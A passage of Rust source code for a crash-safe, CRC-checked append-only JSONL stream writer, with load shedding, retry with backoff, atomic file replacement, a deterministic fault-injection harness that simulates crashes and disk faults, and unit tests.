    for (i, body) in bodies.iter().enumerate() {
        out.push_str(&encode_frame(start_seq + i as u64, body));
    }
    out
}

fn parse_decimal(s: &str) -> Option<(u64, &str)> {
    let end = s.find(|c: char| !c.is_ascii_digit()).unwrap_or(s.len());
    if end == 0 {
        return None;
    }
    let value = s[..end].parse::<u64>().ok()?;
    Some((value, &s[end..]))
}

/// Decodes one frame line (without trailing newline) into `(seq, body)`.
///
/// The header is parsed strictly — literal key order, no whitespace — so
/// a flipped header byte reads as [`FrameDefect::BadHeader`] rather than
/// a different record.
pub fn decode_frame(line: &str) -> Result<(u64, &str), FrameDefect> {
    let rest = line
        .strip_prefix("{\"seq\":")
        .ok_or(FrameDefect::BadHeader)?;
    let (seq, rest) = parse_decimal(rest).ok_or(FrameDefect::BadHeader)?;
    let rest = rest
        .strip_prefix(",\"len\":")
        .ok_or(FrameDefect::BadHeader)?;
    let (len, rest) = parse_decimal(rest).ok_or(FrameDefect::BadHeader)?;
    let rest = rest
        .strip_prefix(",\"crc\":")
        .ok_or(FrameDefect::BadHeader)?;
    let (crc, rest) = parse_decimal(rest).ok_or(FrameDefect::BadHeader)?;
    let body = rest
        .strip_prefix(",\"body\":")
        .ok_or(FrameDefect::BadHeader)?;
    let body = body.strip_suffix('}').ok_or(FrameDefect::BadHeader)?;
    if body.len() as u64 != len {
        return Err(FrameDefect::LengthMismatch);
    }
    if crc > u64::from(u32::MAX) || crc32(body.as_bytes()) != crc as u32 {
        return Err(FrameDefect::CrcMismatch);
    }
    Ok((seq, body))
}

/// Result of scanning a framed stream for its longest valid prefix.
#[derive(Debug, Clone, Default)]
pub struct StreamScan {
    /// Body payloads of the valid prefix, in sequence order.
    pub bodies: Vec<String>,
    /// Non-empty lines rejected at or after the first defect.
    pub dropped: usize,
    /// The defect that terminated the scan, if any.
    pub defect: Option<FrameDefect>,
    /// Sequence number the next appended frame must carry.
    pub next_seq: u64,
    /// Byte length of the valid prefix (including its trailing newline);
    /// truncating the file here removes every rejected byte.
    pub valid_len: u64,
}

impl StreamScan {
    /// True when the scan rejected nothing.
    pub fn is_clean(&self) -> bool {
        self.dropped == 0 && self.defect.is_none()
    }
}

/// Scans raw stream bytes for the longest valid framed prefix.
///
/// Validation stops at the first defect — a valid stream always carries
/// sequence numbers `0..n` with no gaps — and everything from that point
/// on is counted as dropped. Empty lines inside the valid prefix are
/// skipped but kept (they cannot corrupt a reader).
pub fn scan_stream(bytes: &[u8]) -> StreamScan {
    let mut scan = StreamScan::default();
    let mut pos = 0usize;
    let mut defect = None;
    let mut tail_start = bytes.len();
    while pos < bytes.len() {
        let nl = bytes[pos..].iter().position(|&b| b == b'\n');
        let (line_end, next_pos, has_newline) = match nl {
            Some(off) => (pos + off, pos + off + 1, true),
            None => (bytes.len(), bytes.len(), false),
        };
        let raw = &bytes[pos..line_end];
        if raw.is_empty() {
            scan.valid_len = next_pos as u64;
            pos = next_pos;
            continue;
        }
        let verdict = match std::str::from_utf8(raw) {
            Err(_) => Err(FrameDefect::BadUtf8),
            Ok(_) if !has_newline => Err(FrameDefect::TornTail),
            Ok(line) => decode_frame(line).and_then(|(seq, body)| {
                if seq == scan.next_seq {
                    Ok(body.to_string())
                } else {
                    Err(FrameDefect::SeqGap {
                        expected: scan.next_seq,
                        found: seq,
                    })
                }
            }),
        };
        match verdict {
            Ok(body) => {
                scan.bodies.push(body);
                scan.next_seq += 1;
                scan.valid_len = next_pos as u64;
                pos = next_pos;
            }
            Err(d) => {
                defect = Some(d);
                tail_start = pos;
                break;
            }
        }
    }
    if let Some(d) = defect {
        scan.defect = Some(d);
        scan.dropped = bytes[tail_start..]
            .split(|&b| b == b'\n')
            .filter(|line| !line.is_empty())
            .count();
    }
    scan
}

/// Scans the framed stream at `path`; `Ok(None)` when the file is absent.
pub fn scan_path(path: &Path) -> io::Result<Option<StreamScan>> {
    match std::fs::read(path) {
        Ok(bytes) => Ok(Some(scan_stream(&bytes))),
        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(e),
    }
}

// ---------------------------------------------------------------------------
// Error taxonomy
// ---------------------------------------------------------------------------

/// Marker payload for simulated and real out-of-space conditions.
#[derive(Debug)]
pub struct DiskFull;

impl fmt::Display for DiskFull {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "no space left on device")
    }
}

impl std::error::Error for DiskFull {}

/// Builds an `io::Error` carrying the [`DiskFull`] marker.
pub fn disk_full_error() -> io::Error {
    io::Error::other(DiskFull)
}

/// True when the error is disk-pressure: shed load, do not retry.
pub fn is_disk_full(e: &io::Error) -> bool {
    e.get_ref().is_some_and(|inner| inner.is::<DiskFull>())
}

/// True when the error is transient (`EINTR`/`EAGAIN`-class): worth a
/// bounded retry after backing off.
pub fn is_transient(e: &io::Error) -> bool {
    matches!(
        e.kind(),
        io::ErrorKind::Interrupted | io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
    )
}

fn transient_error() -> io::Error {
    io::Error::new(io::ErrorKind::WouldBlock, "simulated transient I/O error")
}

// ---------------------------------------------------------------------------
// Streams, sync policy, shared per-run I/O state
// ---------------------------------------------------------------------------

/// The four persistent streams a sweep writes, in shed-priority order:
/// under disk pressure metrics snapshots are shed first, telemetry
/// events second, provenance detail third, and the journal never.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StreamKind {
    /// The sweep journal — the source of truth, never shed.
    Journal,
    /// The provenance ledger — shed only under sustained pressure.
    Ledger,
    /// The telemetry event stream — shed before provenance detail.
    Events,
    /// The durable metrics snapshot stream — first to shed.
    Metrics,
}

impl StreamKind {
    /// All streams, indexable by [`StreamKind::index`].
    pub const ALL: [StreamKind; 4] = [
        StreamKind::Journal,
        StreamKind::Ledger,
        StreamKind::Events,
        StreamKind::Metrics,
    ];

    /// Stable array index for per-stream counters.
    pub fn index(self) -> usize {
        match self {
            StreamKind::Journal => 0,
            StreamKind::Ledger => 1,
            StreamKind::Events => 2,
            StreamKind::Metrics => 3,
        }
    }

    /// Human-readable stream name (matches the warning prefix).
    pub fn name(self) -> &'static str {
        match self {
            StreamKind::Journal => "journal",
            StreamKind::Ledger => "ledger",
            StreamKind::Events => "events",
            StreamKind::Metrics => "metrics",
        }
    }
}

/// When the writer forces appended frames to stable storage.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub enum SyncPolicy {
    /// Fsync after every appended record (safest, slowest).
    Always,
    /// Fsync every [`CHECKPOINT_SYNC_INTERVAL`] records (the default).
    #[default]
    Checkpoint,
    /// Never fsync explicitly; rely on the OS page cache.
    Never,
}

/// Appends between fsyncs under [`SyncPolicy::Checkpoint`].
pub const CHECKPOINT_SYNC_INTERVAL: u64 = 32;

/// Default per-run transient-retry budget (see `PipelineConfig`).
pub const DEFAULT_RETRY_BUDGET: u32 = 64;

/// Shared per-run I/O accounting: the shed level, the transient-retry
/// budget, and per-stream counters that feed `SweepStats`.
///
/// The shed level is sticky for the run: `ENOSPC` on the metrics
/// snapshot stream raises it to 1 (metrics shed), on the event stream
/// to 2 (metrics and events shed), on the ledger or journal to 3
/// (everything but the journal shed). The journal itself is never shed
/// — its failures surface as errors so the app is re-analyzed on
/// resume.
#[derive(Debug)]
pub struct IoState {
    shed_level: AtomicU8,
    retry_budget: AtomicU64,
    syncs: [AtomicU64; 4],
    retries: AtomicU64,
    backoff_us: AtomicU64,
    shed: [AtomicU64; 4],
    write_errors: [AtomicU64; 4],
}

impl IoState {
    /// Fresh state with `retry_budget` transient retries for the run.
    pub fn new(retry_budget: u32) -> Arc<Self> {
        Arc::new(IoState {
            shed_level: AtomicU8::new(0),
            retry_budget: AtomicU64::new(u64::from(retry_budget)),
            syncs: Default::default(),
            retries: AtomicU64::new(0),
            backoff_us: AtomicU64::new(0),
            shed: Default::default(),
            write_errors: Default::default(),
        })
    }

    /// True when records for `stream` should be shed at the current level.
    pub fn should_shed(&self, stream: StreamKind) -> bool {
        let level = self.shed_level.load(Ordering::Relaxed);
        match stream {
            StreamKind::Metrics => level >= 1,
            StreamKind::Events => level >= 2,
            StreamKind::Ledger => level >= 3,
            StreamKind::Journal => false,
        }
    }

    /// Raises the shed level after `ENOSPC` on `stream`.
    pub fn raise_shed_for(&self, stream: StreamKind) {
        let level = match stream {
            StreamKind::Metrics => 1,
            StreamKind::Events => 2,
            StreamKind::Ledger | StreamKind::Journal => 3,
        };
        self.shed_level.fetch_max(level, Ordering::Relaxed);
    }

    /// Takes one retry token; false when the budget is exhausted.
    pub fn take_retry(&self) -> bool {
        self.retry_budget
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |b| b.checked_sub(1))
            .is_ok()
    }

    fn count_sync(&self, stream: StreamKind) {
        self.syncs[stream.index()].fetch_add(1, Ordering::Relaxed);
    }

    fn count_retry(&self, backoff_us: u64) {
        self.retries.fetch_add(1, Ordering::Relaxed);
        self.backoff_us.fetch_add(backoff_us, Ordering::Relaxed);
    }

    fn count_shed(&self, stream: StreamKind) {
        self.shed[stream.index()].fetch_add(1, Ordering::Relaxed);
    }

    fn count_write_error(&self, stream: StreamKind) {
        self.write_errors[stream.index()].fetch_add(1, Ordering::Relaxed);
    }

    /// Point-in-time copy of the counters for `SweepStats`.
    pub fn snapshot(&self) -> IoStatsSnapshot {
        let load = |a: &[AtomicU64; 4]| {
            [
                a[0].load(Ordering::Relaxed),
                a[1].load(Ordering::Relaxed),
                a[2].load(Ordering::Relaxed),
                a[3].load(Ordering::Relaxed),
            ]
        };
        IoStatsSnapshot {
            shed_level: self.shed_level.load(Ordering::Relaxed),
            syncs: load(&self.syncs),
            retries: self.retries.load(Ordering::Relaxed),
            backoff_us: self.backoff_us.load(Ordering::Relaxed),
            shed: load(&self.shed),
            write_errors: load(&self.write_errors),
        }
    }
}

/// Plain-data snapshot of [`IoState`] counters (indexed by
/// [`StreamKind::index`]).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct IoStatsSnapshot {
    /// Current shed level (0 = nothing shed).
    pub shed_level: u8,
    /// Fsyncs issued per stream.
    pub syncs: [u64; 4],
    /// Transient-error retries spent.
    pub retries: u64,
    /// Virtual backoff charged across retries, in microseconds.
    pub backoff_us: u64,
    /// Records shed per stream under disk pressure.
    pub shed: [u64; 4],
    /// Append failures per stream (after retries, excluding sheds).
    pub write_errors: [u64; 4],
}

// ---------------------------------------------------------------------------
// Fault harness
// ---------------------------------------------------------------------------

/// Deterministic I/O fault and crash scheduler shared by every sink of a
/// run. Each append consumes one tick of the virtual op clock; the
/// harness decides per-op whether to inject a fault from the script and
/// whether the simulated process dies at that boundary.
///
/// After the crash op fires, every subsequent operation silently
/// succeeds without touching the file — the on-disk state is frozen
/// exactly as a `kill -9` would leave it while the in-process sweep runs
/// to completion (the torture harness discards its report).
#[derive(Debug)]
pub struct IoHarness {
    ops: AtomicU64,
    crash_at: u64,
    crashed: AtomicBool,
    script: Option<IoFaultScript>,
}

impl IoHarness {
    /// Harness that injects faults from `script` and crashes at op
    /// `crash_at` (`None` = never).
    pub fn new(crash_at: Option<u64>, script: Option<IoFaultScript>) -> Arc<Self> {
        Arc::new(IoHarness {
            ops: AtomicU64::new(0),
            crash_at: crash_at.unwrap_or(u64::MAX),
            crashed: AtomicBool::new(false),
            script,
        })
    }

    /// Inert harness that only counts write ops — used to size the
    /// crash matrix from a reference run.
    pub fn counting() -> Arc<Self> {
        IoHarness::new(None, None)
    }

    /// Write ops consumed so far.
    pub fn ops(&self) -> u64 {
        self.ops.load(Ordering::Relaxed)
    }

    /// True once the simulated crash point has fired.
    pub fn crashed(&self) -> bool {
        self.crashed.load(Ordering::Relaxed)
    }

    fn next_op(&self) -> u64 {
        self.ops.fetch_add(1, Ordering::Relaxed)
    }

    fn fault(&self, op: u64) -> Option<IoFaultKind> {
        self.script.as_ref().and_then(|s| s.decide(op))
    }

    fn param(&self, op: u64) -> u64 {
        self.script
            .as_ref()
            .map(|s| s.param(op))
            .unwrap_or_else(|| op.wrapping_mul(0x9E37_79B9_7F4A_7C15))
    }
}

// ---------------------------------------------------------------------------
// RecordIo: the injectable write path
// ---------------------------------------------------------------------------

/// Minimal file surface a [`FramedWriter`] needs, so faults can be
/// injected between the writer's policy and the filesystem.
pub trait RecordIo: fmt::Debug + Send {
    /// Appends `bytes` at the end of the stream.
    fn append(&mut self, bytes: &[u8]) -> io::Result<()>;
    /// Forces appended bytes to stable storage.
    fn sync(&mut self) -> io::Result<()>;
    /// Truncates the stream back to `len` bytes (retry cleanup).
    fn truncate(&mut self, len: u64) -> io::Result<()>;
}

/// Production [`RecordIo`]: an append-mode file.
#[derive(Debug)]
pub struct FileIo {
    file: File,
}

impl FileIo {
    /// Opens (creating if needed) `path` in append mode.
    pub fn open(path: &Path) -> io::Result<Self> {
        if let Some(parent) = path.parent() {
            if !parent.as_os_str().is_empty() {
                std::fs::create_dir_all(parent)?;
            }
        }
        let file = OpenOptions::new().create(true).append(true).open(path)?;
        Ok(FileIo { file })
    }
}

impl RecordIo for FileIo {
    fn append(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.file.write_all(bytes)?;
        self.file.flush()
    }

    fn sync(&mut self) -> io::Result<()> {
        self.file.sync_data()
    }

    fn truncate(&mut self, len: u64) -> io::Result<()> {
        self.file.set_len(len)
    }
}

/// Fault-injecting [`RecordIo`]: wraps a [`FileIo`] and consults the
/// run's [`IoHarness`] at every append boundary.
#[derive(Debug)]
pub struct FaultIo {
    inner: FileIo,
    harness: Arc<IoHarness>,
}

impl FaultIo {
    /// Wraps `inner` with fault decisions from `harness`.
    pub fn new(inner: FileIo, harness: Arc<IoHarness>) -> Self {
        FaultIo { inner, harness }
    }
}

impl RecordIo for FaultIo {
    fn append(&mut self, bytes: &[u8]) -> io::Result<()> {
        let op = self.harness.next_op();
        if self.harness.crashed() {
            return Ok(());
        }
        if op == self.harness.crash_at {
            // The process dies mid-write: a torn prefix lands on disk and
            // nothing after this boundary is ever persisted.
            let cut = (self.harness.param(op) as usize) % (bytes.len() + 1);
            let _ = self.inner.append(&bytes[..cut]);
            self.harness.crashed.store(true, Ordering::Relaxed);
            return Ok(());
        }
        match self.harness.fault(op) {
            None => self.inner.append(bytes),
            Some(IoFaultKind::ShortWrite) => {
                let cut = (self.harness.param(op) as usize) % bytes.len().max(1);
                self.inner.append(&bytes[..cut])?;
                Err(io::Error::new(
                    io::ErrorKind::Interrupted,
                    "simulated short write",
                ))
            }
            Some(IoFaultKind::BitFlip) => {
                // Silent corruption: the write "succeeds" with one bit
                // flipped somewhere in the frame.
                let mut corrupt = bytes.to_vec();
                if !corrupt.is_empty() {
                    let bit = (self.harness.param(op) as usize) % (corrupt.len() * 8);
                    corrupt[bit / 8] ^= 1 << (bit % 8);
                }
                self.inner.append(&corrupt)
            }
            Some(IoFaultKind::Transient) => Err(transient_error()),
            Some(IoFaultKind::DiskFull) => Err(disk_full_error()),
        }
    }

    fn sync(&mut self) -> io::Result<()> {
        if self.harness.crashed() {
            return Ok(());
        }
        self.inner.sync()
    }

    fn truncate(&mut self, len: u64) -> io::Result<()> {
        if self.harness.crashed() {
            return Ok(());
        }
        self.inner.truncate(len)
    }
}

// ---------------------------------------------------------------------------
// SinkOptions and FramedWriter
// ---------------------------------------------------------------------------

/// Per-sink configuration: which stream it is, its sync policy, the
/// run's shared [`IoState`], and an optional fault harness.
#[derive(Debug, Clone)]
pub struct SinkOptions {
    /// Which of the four streams this sink persists.
    pub stream: StreamKind,
    /// Fsync scheduling for this sink.
    pub policy: SyncPolicy,
    /// Shared per-run shed/retry/counter state.
    pub state: Arc<IoState>,
    /// Fault harness; `None` writes straight through.
    pub harness: Option<Arc<IoHarness>>,
}

impl SinkOptions {
    /// Stand-alone options for `stream`: default policy, fresh state, no
    /// fault injection. Used by the compatibility constructors.
    pub fn direct(stream: StreamKind) -> Self {
        SinkOptions {
            stream,
            policy: SyncPolicy::default(),
            state: IoState::new(DEFAULT_RETRY_BUDGET),
            harness: None,
        }
    }
}

/// Outcome of a [`FramedWriter::append_body`] call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Appended {
    /// The record was framed and written.
    Written,
    /// The record was shed under disk pressure (counted, not written).
    Shed,
}

fn backoff_us(op: u64, attempt: u32) -> u64 {
    let base = 100u64 << (attempt - 1).min(10);
    let base = base.min(100_000);
    base + retry_jitter(op, attempt) % base
}

/// Append-side of a framed stream: monotonically numbers records,
/// retries transient faults with virtual exponential backoff, truncates
/// partial writes before retrying, sheds records per the run's shed
/// level, and fsyncs per policy.
#[derive(Debug)]
pub struct FramedWriter {
    io: Box<dyn RecordIo>,
    opts: SinkOptions,
    seq: u64,
    good_len: u64,
    since_sync: u64,
}

impl FramedWriter {
    /// Opens the stream at `path`, scanning any existing content so the
    /// writer resumes at the next sequence number; a torn or corrupt
    /// tail is truncated away first.
    pub fn open(path: &Path, opts: SinkOptions) -> io::Result<Self> {
        let scan = scan_path(path)?.unwrap_or_default();
        let file = FileIo::open(path)?;
        let mut io: Box<dyn RecordIo> = match &opts.harness {
            Some(h) => Box::new(FaultIo::new(file, Arc::clone(h))),
            None => Box::new(file),
        };
        if !scan.is_clean() {
            io.truncate(scan.valid_len)?;
        }
        Ok(FramedWriter {
            io,
            opts,
            seq: scan.next_seq,
            good_len: scan.valid_len,
            since_sync: 0,
        })
    }

    /// Sequence number the next appended record will carry.
    pub fn seq(&self) -> u64 {
        self.seq
    }

    /// Frames and appends one body line, applying shed policy, transient
    /// retries with backoff, and the sync policy.
    pub fn append_body(&mut self, body: &str) -> io::Result<Appended> {
        let state = Arc::clone(&self.opts.state);
        let stream = self.opts.stream;
        if state.should_shed(stream) {
            state.count_shed(stream);
            return Ok(Appended::Shed);
        }
        let frame = encode_frame(self.seq, body);
        let bytes = frame.as_bytes();
        let mut attempt = 0u32;
        loop {
            match self.io.append(bytes) {
                Ok(()) => {
                    self.seq += 1;
                    self.good_len += bytes.len() as u64;
                    self.maybe_sync()?;
                    return Ok(Appended::Written);
                }
                Err(e) if is_disk_full(&e) => {
                    let _ = self.io.truncate(self.good_len);
                    state.raise_shed_for(stream);
                    state.count_write_error(stream);
                    return Err(e);
                }
                Err(e) if is_transient(&e) && state.take_retry() => {
                    // A short write may have left a partial frame behind;
                    // roll the file back before trying again.
                    attempt += 1;
                    state.count_retry(backoff_us(self.seq, attempt));
                    let _ = self.io.truncate(self.good_len);
                }
                Err(e) => {
                    let _ = self.io.truncate(self.good_len);
                    state.count_write_error(stream);
                    return Err(e);
                }
            }
        }
    }

    fn maybe_sync(&mut self) -> io::Result<()> {
        self.since_sync += 1;
        let due = match self.opts.policy {
            SyncPolicy::Always => true,
            SyncPolicy::Checkpoint => self.since_sync >= CHECKPOINT_SYNC_INTERVAL,
            SyncPolicy::Never => false,
        };
        if due {
            self.since_sync = 0;
            self.io.sync()?;
            self.opts.state.count_sync(self.opts.stream);
        }
        Ok(())
    }

    /// Forces an fsync now regardless of policy.
    pub fn sync_now(&mut self) -> io::Result<()> {
        self.since_sync = 0;
        self.io.sync()?;
        self.opts.state.count_sync(self.opts.stream);
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// Atomic finalize
// ---------------------------------------------------------------------------

/// Atomically replaces `path` with `bodies` framed from sequence 0:
/// writes a temp file beside the target and renames it into place, so a
/// crash or fault at any boundary leaves either the old bytes or the new
/// bytes — never a blend. Routed through `harness` when present (a
/// crashed harness freezes the old file; an injected fault aborts the
/// rewrite with the old file intact).
pub fn atomic_write_frames(
    path: &Path,
    bodies: &[String],
    harness: Option<&Arc<IoHarness>>,
) -> io::Result<()> {
    let mut text = encode_frames(0, bodies);
    if let Some(h) = harness {
        let op = h.next_op();
        if h.crashed() {
            return Ok(());
        }
        if op == h.crash_at {
            h.crashed.store(true, Ordering::Relaxed);
            return Ok(());
        }
        match h.fault(op) {
            None => {}
            Some(IoFaultKind::BitFlip) => {
                // The replacement file lands corrupted; recovery on the
                // next run drops the damaged suffix.
                let mut bytes = text.into_bytes();
                if !bytes.is_empty() {
                    let bit = (h.param(op) as usize) % (bytes.len() * 8);
                    bytes[bit / 8] ^= 1 << (bit % 8);
                }
                text = String::from_utf8(bytes)
                    .unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned());
            }
            Some(IoFaultKind::ShortWrite | IoFaultKind::Transient) => {
                return Err(transient_error());
            }
            Some(IoFaultKind::DiskFull) => return Err(disk_full_error()),
        }
    }
    if let Some(parent) = path.parent() {
        if !parent.as_os_str().is_empty() {
            std::fs::create_dir_all(parent)?;
        }
    }
    let tmp = path.with_extension("tmp");
    std::fs::write(&tmp, text)?;
    std::fs::rename(&tmp, path)
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_workload::faults::IoFaultSpec;

    fn temp_path(tag: &str) -> std::path::PathBuf {
        std::env::temp_dir().join(format!(
            "dydroid-durable-{tag}-{}-{:?}.jsonl",
            std::process::id(),
            std::thread::current().id()
        ))
    }

    #[test]
    fn crc32_matches_the_ieee_check_vector() {
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
    }

    #[test]
    fn frames_round_trip_and_stay_line_json() {
        let body = r#"{"package":"com.a","x":1}"#;
        let frame = encode_frame(7, body);
        assert!(frame.ends_with('\n'));
        let (seq, got) = decode_frame(frame.trim_end()).expect("valid frame");
        assert_eq!(seq, 7);
        assert_eq!(got, body);
        // The envelope itself parses as ordinary JSON with the body intact.
        let v: serde::Value = serde_json::from_str(frame.trim_end()).expect("frame is JSON");
        assert_eq!(v.get("seq").and_then(|s| s.as_u64()), Some(7));
        assert_eq!(
            v.get("body")
                .and_then(|b| b.get("package"))
                .and_then(|p| p.as_str()),
            Some("com.a")
        );
    }

    #[test]
    fn scan_accepts_a_clean_stream_and_stops_at_defects() {
        let bodies: Vec<String> = (0..4).map(|i| format!("{{\"i\":{i}}}")).collect();
        let text = encode_frames(0, &bodies);
        let scan = scan_stream(text.as_bytes());
        assert!(scan.is_clean());
        assert_eq!(scan.bodies, bodies);
        assert_eq!(scan.next_seq, 4);
        assert_eq!(scan.valid_len, text.len() as u64);

        // Torn tail: last frame loses its newline and some bytes.
        let torn = &text[..text.len() - 3];
        let scan = scan_stream(torn.as_bytes());
        assert_eq!(scan.bodies.len(), 3);
        assert_eq!(scan.dropped, 1);
        // Remaining prefix is exactly the three whole frames.
        assert_eq!(scan.valid_len, encode_frames(0, &bodies[..3]).len() as u64);

        // A skipped frame is a sequence gap.
        let gap = format!("{}{}", encode_frame(0, "{}"), encode_frame(2, "{}"));
        let scan = scan_stream(gap.as_bytes());
        assert_eq!(scan.bodies.len(), 1);
        assert_eq!(
            scan.defect,
            Some(FrameDefect::SeqGap {
                expected: 1,
                found: 2
            })
        );

        // Raw unframed JSON (the old format) is rejected, not mis-read.
        let scan = scan_stream(b"{\"package\":\"com.a\"}\n");
        assert_eq!(scan.bodies.len(), 0);
        assert_eq!(scan.defect, Some(FrameDefect::BadHeader));
        assert_eq!(scan.dropped, 1);
    }

    #[test]
    fn every_single_bit_flip_is_detected() {
        let bodies = vec![
            "{\"package\":\"com.a\",\"n\":41}".to_string(),
            "{\"package\":\"com.b\",\"n\":42}".to_string(),
        ];
        let text = encode_frames(0, &bodies);
        let clean = scan_stream(text.as_bytes());
        assert!(clean.is_clean());
        for bit in 0..text.len() * 8 {
            let mut bytes = text.clone().into_bytes();
            bytes[bit / 8] ^= 1 << (bit % 8);
            let scan = scan_stream(&bytes);
            // The flip must be detected: fewer bodies survive, and any
            // surviving prefix is byte-identical to the original bodies.
            assert!(
                scan.bodies.len() < bodies.len(),
                "flip of bit {bit} went undetected"
            );
            for (got, want) in scan.bodies.iter().zip(&bodies) {
                assert_eq!(got, want, "flip of bit {bit} mis-parsed a record");
            }
        }
    }

    #[test]
    fn writer_resumes_sequence_and_truncates_corrupt_tails() {
        let path = temp_path("resume");
        let _ = std::fs::remove_file(&path);
        {
            let mut w =
                FramedWriter::open(&path, SinkOptions::direct(StreamKind::Journal)).expect("open");
            w.append_body("{\"a\":1}").unwrap();
            w.append_body("{\"a\":2}").unwrap();
            assert_eq!(w.seq(), 2);
        }
        // Corrupt tail: torn half-frame appended by a dying writer.
        std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .and_then(|mut f| f.write_all(b"{\"seq\":2,\"len\":99,\"crc\":1,\"bo"))
            .unwrap();
        {
            let mut w = FramedWriter::open(&path, SinkOptions::direct(StreamKind::Journal))
                .expect("reopen");
            assert_eq!(w.seq(), 2, "resume after the valid prefix");
            w.append_body("{\"a\":3}").unwrap();
        }
        let scan = scan_path(&path).unwrap().expect("file exists");
        assert!(scan.is_clean());
        assert_eq!(scan.bodies.len(), 3);
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn transient_faults_retry_within_budget_and_leave_no_garbage() {
        let path = temp_path("retry");
        let _ = std::fs::remove_file(&path);
        // rate 1.0 would fault every op forever; craft a script where the
        // kinds cycle so some ops are transient. Use a high rate and rely
        // on the retry loop re-issuing ops until a clean one lands.
        let harness = IoHarness::new(
            None,
            Some(IoFaultScript::new(IoFaultSpec { rate: 0.5, seed: 7 })),
        );
        let state = IoState::new(1_000);
        let opts = SinkOptions {
            stream: StreamKind::Journal,
            policy: SyncPolicy::Never,
            state: Arc::clone(&state),
            harness: Some(Arc::clone(&harness)),
        };
        let mut w = FramedWriter::open(&path, opts).expect("open");
        let mut accepted: Vec<String> = Vec::new();
        for i in 0..64 {
            let body = format!("{{\"i\":{i}}}");
            match w.append_body(&body) {
                Ok(Appended::Written) => accepted.push(body),
                Ok(Appended::Shed) => panic!("journal must never shed"),
                Err(e) if is_disk_full(&e) => {
                    // ENOSPC on the journal surfaces as an error (the
                    // record is dropped); the stream must still be clean
                    // afterwards.
                }
                Err(e) => panic!("unexpected error: {e}"),
            }
        }
        drop(w);
        let scan = scan_path(&path).unwrap().expect("file exists");
        // Bit-flips are silent corruption: the scan stops there, but the
        // prefix before the first flip is exactly a prefix of the bodies
        // the writer accepted — every retried transient/short write left
        // no duplicate or partial frame inside it.
        assert!(scan.bodies.len() <= accepted.len());
        assert_eq!(scan.bodies, accepted[..scan.bodies.len()]);
        let snap = state.snapshot();
        assert!(snap.retries > 0, "script at rate 0.5 must hit transients");
        assert!(snap.backoff_us > 0);
        assert!(!accepted.is_empty());
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn disk_full_raises_shed_level_in_order() {
        let state = IoState::new(0);
        assert!(!state.should_shed(StreamKind::Metrics));
        state.raise_shed_for(StreamKind::Metrics);
        assert!(state.should_shed(StreamKind::Metrics));
        assert!(!state.should_shed(StreamKind::Events));
        state.raise_shed_for(StreamKind::Events);
        assert!(state.should_shed(StreamKind::Metrics));
        assert!(state.should_shed(StreamKind::Events));
        assert!(!state.should_shed(StreamKind::Ledger));
        state.raise_shed_for(StreamKind::Ledger);
        assert!(state.should_shed(StreamKind::Ledger));
        assert!(
            !state.should_shed(StreamKind::Journal),
            "journal never sheds"
        );
        let snap = state.snapshot();
        assert_eq!(snap.shed_level, 3);
    }

    #[test]
    fn shed_records_are_counted_not_written() {
        let path = temp_path("shed");
        let _ = std::fs::remove_file(&path);
        let state = IoState::new(0);
        state.raise_shed_for(StreamKind::Events);
        let opts = SinkOptions {
            stream: StreamKind::Events,
            policy: SyncPolicy::Never,
            state: Arc::clone(&state),
            harness: None,
        };
        let mut w = FramedWriter::open(&path, opts).expect("open");
        assert_eq!(w.append_body("{\"e\":1}").unwrap(), Appended::Shed);
        assert_eq!(w.append_body("{\"e\":2}").unwrap(), Appended::Shed);
        drop(w);
        assert_eq!(state.snapshot().shed[StreamKind::Events.index()], 2);
        let scan = scan_path(&path).unwrap().expect("file created");
        assert_eq!(scan.bodies.len(), 0);
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn crash_freezes_the_file_mid_frame() {
        let path = temp_path("crash");
        let _ = std::fs::remove_file(&path);
        let harness = IoHarness::new(Some(2), None);
        let opts = SinkOptions {
            stream: StreamKind::Journal,
            policy: SyncPolicy::Never,
            state: IoState::new(8),
            harness: Some(Arc::clone(&harness)),
        };
        let mut w = FramedWriter::open(&path, opts).expect("open");
        for i in 0..6 {
            // The crashed harness reports success; the writer keeps going.
            w.append_body(&format!("{{\"i\":{i}}}")).unwrap();
        }
        drop(w);
        assert!(harness.crashed());
        assert_eq!(harness.ops(), 6, "ops keep ticking after the crash");
        let scan = scan_path(&path).unwrap().expect("file exists");
        // The two pre-crash frames survive; op 2 died mid-write, so at
        // most a torn prefix of it (or the whole frame, if the cut
        // landed at the end) is on disk — and nothing after it.
        assert!(
            scan.bodies.len() == 2 || scan.bodies.len() == 3,
            "got {} bodies",
            scan.bodies.len()
        );
        for (i, body) in scan.bodies.iter().enumerate() {
            assert_eq!(body, &format!("{{\"i\":{i}}}"));
        }
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn sync_policy_counts_syncs() {
        let path = temp_path("sync");
        let _ = std::fs::remove_file(&path);
        let state = IoState::new(0);
        let opts = SinkOptions {
            stream: StreamKind::Journal,
            policy: SyncPolicy::Always,
            state: Arc::clone(&state),
            harness: None,
        };
        let mut w = FramedWriter::open(&path, opts).expect("open");
        for i in 0..3 {
            w.append_body(&format!("{{\"i\":{i}}}")).unwrap();
        }
        drop(w);
        assert_eq!(state.snapshot().syncs[StreamKind::Journal.index()], 3);

        // Checkpoint policy syncs once per interval.
        let state2 = IoState::new(0);
        let opts = SinkOptions {
            stream: StreamKind::Journal,
            policy: SyncPolicy::Checkpoint,
            state: Arc::clone(&state2),
            harness: None,
        };
        let _ = std::fs::remove_file(&path);
        let mut w = FramedWriter::open(&path, opts).expect("open");
